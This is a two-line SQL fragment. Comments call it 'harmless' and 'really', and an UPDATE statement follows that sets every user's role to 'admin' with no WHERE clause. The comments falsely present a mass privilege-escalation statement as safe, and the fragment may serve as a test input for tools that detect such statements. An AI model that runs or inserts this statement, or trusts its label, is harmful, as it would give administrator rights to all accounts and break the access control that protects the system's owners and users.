/* harmless */ -- really
UPDATE users SET role = 'admin'
